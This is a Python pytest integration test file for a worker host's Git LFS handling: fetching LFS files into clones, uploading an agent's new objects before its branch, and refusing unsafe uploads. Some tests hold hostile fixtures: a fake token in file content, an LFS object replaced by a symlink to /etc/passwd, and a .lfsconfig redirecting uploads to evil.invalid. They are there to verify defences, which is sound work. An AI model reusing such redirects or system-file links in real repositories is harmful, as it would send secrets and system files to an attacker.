"""Kind: a used clone is trusted to be usable, of files in Git LFS: had in the network step, and
uploaded there. The real git-lfs, against a server that does as its API is written down.
"""

from __future__ import annotations

import hashlib
from collections.abc import Iterator
from dataclasses import replace
from datetime import timedelta
from pathlib import Path

import pytest

from cw.errors import WorkspaceError
from cw.homes.owner import give_tree
from cw.models import Outcome
from cw.redaction.redact import redactor
from tests.integration.cloning import REPO, Worker, inspect, run
from tests.making import NOW, make_journal
from tests.needs import need, require
from tests.standins.github import GitHubStandIn
from tests.standins.github.lfs import stored
from tests.walls import WALLS
from workerhost.clones import preparing, workspace
from workerhost.clones.workspace import Workspace
from workerhost.programs.progress import Progress, Result
from workerhost.settling.ended_run import EndedRun
from workerhost.settling.settle import settle
from workerhost.settling.verdict import FINISHED

TRACKED = "*.bin filter=lfs diff=lfs merge=lfs -text\n"
SECRET = "ghp_7dK2mQ9xV4tB1nR8wZ5cH3jL6pS0yF2gA4eU"


@pytest.fixture
def secure_hub(tmp_path: Path) -> Iterator[GitHubStandIn]:
    """Over https: what git-lfs is written in sends nothing for 127.0.0.1 to a proxy."""
    with GitHubStandIn(tmp_path / "hub", https=True) as hub:
        hub.add_repo(REPO, files={"README.md": "# app\n"})
        hub.add_user("bot", "bot-token", {REPO: "write"})
        yield hub


@pytest.fixture
def worker(secure_hub: GitHubStandIn, tmp_path: Path) -> Worker:
    require(WALLS, "bubblewrap and socat that work")
    folder = Path(need("git-lfs")).parent
    return replace(Worker.make(tmp_path, secure_hub), path=f"{folder}:/usr/bin:/bin")


def in_lfs(hub: GitHubStandIn, text: str, name: str = "big.bin", **more: str) -> str:
    """Somebody pushes such a file to main. Its hash."""
    oid = hashlib.sha256(text.encode()).hexdigest()
    path = stored(hub.state.repos[REPO], oid)
    path.parent.mkdir(exist_ok=True)
    path.write_text(text, "utf-8")
    said = f"version https://git-lfs.github.com/spec/v1\noid sha256:{oid}\nsize {len(text)}\n"
    hub.add_commit(REPO, "main", {name: said, ".gitattributes": TRACKED, **more})
    return oid


def prepared(worker: Worker, issue: int = 1) -> Workspace:
    spec = worker.spec(issue=issue)
    return preparing.prepare(worker.git(spec), spec, resume=False)


def settled(worker: Worker, place: Workspace) -> Outcome:
    spec = worker.spec(issue=1)
    clone = {"clone": str(place.clone), "base": place.base, "base_sha": place.base_sha}
    return settle(
        EndedRun(
            task=spec,
            run=make_journal().run.model_copy(update=clone),
            github=None,
            process=FINISHED,
            progress=Progress(turns=3, result=Result(report="Done.")),
            now=NOW + timedelta(seconds=5),
            defer=timedelta(minutes=10),
            redact=redactor({"GH_TOKEN": SECRET}),
        ),
        worker.git(spec),
    )


def add(worker: Worker, place: Workspace, text: str, name: str = "new.bin") -> str:
    """As an agent that has git-lfs on its PATH."""
    (place.clone / name).write_text(text, "utf-8")
    run(place.clone, "add", name)
    run(place.clone, "commit", "-q", "-m", "Add it")
    give_tree(place.clone)
    return hashlib.sha256(text.encode()).hexdigest()


def test_files_are_there_in_a_new_clone_and_in_a_used_one(
    worker: Worker, secure_hub: GitHubStandIn
) -> None:
    in_lfs(secure_hub, "one")
    place = prepared(worker)
    assert (place.clone / "big.bin").read_text("utf-8") == "one"
    assert place.notes == ()
    in_lfs(secure_hub, "two", more="x")

    place = prepared(worker, 2)

    assert (place.clone / "big.bin").read_text("utf-8") == "two"
    state = inspect(worker.git(worker.spec(issue=2)), place)
    assert (state.dirty, state.unjudged) == (False, None)
    assert list((worker.home.path / "set-aside").glob("*")) == []
    (place.clone / "big.bin").write_text("draft", "utf-8")
    kept = workspace.save_work(worker.git(worker.spec(issue=2)), place.clone, "x")
    assert "oid sha256:" in run(place.clone, "show", f"{kept}:big.bin")


def test_what_an_agent_adds_is_uploaded_before_its_branch(
    worker: Worker, secure_hub: GitHubStandIn
) -> None:
    in_lfs(secure_hub, "one")
    place = prepared(worker)
    oid = add(worker, place, "mine")

    outcome = settled(worker, place)

    assert outcome.pushed, outcome.message
    assert stored(secure_hub.state.repos[REPO], oid).read_text("utf-8") == "mine"


@pytest.mark.parametrize("how", ["secret", "something else", "link"])
def test_what_is_not_to_leave_or_is_none_is_not_uploaded(
    worker: Worker, secure_hub: GitHubStandIn, how: str
) -> None:
    in_lfs(secure_hub, "one")
    place = prepared(worker)
    oid = add(worker, place, f"token {SECRET}" if how == "secret" else "mine")
    path = place.clone / ".git" / "lfs" / "objects" / oid[:2] / oid[2:4] / oid
    if how == "something else":
        path.chmod(0o644)
        path.write_text("other", "utf-8")
    elif how == "link":
        path.unlink()
        path.symlink_to("/etc/passwd")

    outcome = settled(worker, place)

    assert not stored(secure_hub.state.repos[REPO], oid).exists()
    if how == "link":
        return  # the remote may have it: that is for it to say
    # git itself may look into the file, when its time is that of the index, and find out first.
    assert outcome.reason in ({"not_pushed"} if how == "secret" else {"not_pushed", "not_judged"})
    if outcome.reason == "not_pushed":
        assert "Git LFS cannot be uploaded" in outcome.message
    assert secure_hub.heads(REPO).keys() == {"main"}


def test_configuration_of_the_repository_leads_nowhere(
    worker: Worker, secure_hub: GitHubStandIn
) -> None:
    evil = "[lfs]\n\turl = http://evil.invalid/lfs\n\tpushurl = http://evil.invalid/lfs\n"
    in_lfs(secure_hub, "one", **{".lfsconfig": evil})

    place = prepared(worker)

    assert (place.clone / "big.bin").read_text("utf-8") == "one"
    assert not [one for one in secure_hub.leaks if "evil" in one]


def test_file_that_the_server_does_not_have_is_said(
    worker: Worker, secure_hub: GitHubStandIn
) -> None:
    oid = in_lfs(secure_hub, "one")
    stored(secure_hub.state.repos[REPO], oid).unlink()

    place = prepared(worker)

    assert "files in Git LFS cannot be fetched" in place.missing[0]
    assert "oid sha256:" in (place.clone / "big.bin").read_text("utf-8")


@pytest.mark.parametrize("where", [".gitattributes", "deep/er/.gitattributes"])
def test_git_lfs_that_is_needed_and_not_there_is_said_before_a_run(
    hub: GitHubStandIn, tmp_path: Path, where: str
) -> None:
    worker = Worker.make(tmp_path, hub)
    hub.add_commit(REPO, "main", {where: TRACKED})
    spec = worker.spec(issue=1)
    folder = tmp_path / "bin"
    folder.mkdir()
    for one in Path("/usr/bin").iterdir():
        if one.name != "git-lfs":
            (folder / one.name).symlink_to(one)
    git = worker.git(spec)
    seen = replace(git.settings, sandbox_read=(folder,))
    git = replace(git, settings=seen, env={**git.env, "PATH": str(folder)})

    with pytest.raises(WorkspaceError, match=f"Git LFS .{where}") as found:
        preparing.prepare(git, spec, resume=False)

    assert "apt install git-lfs" in found.value.hint
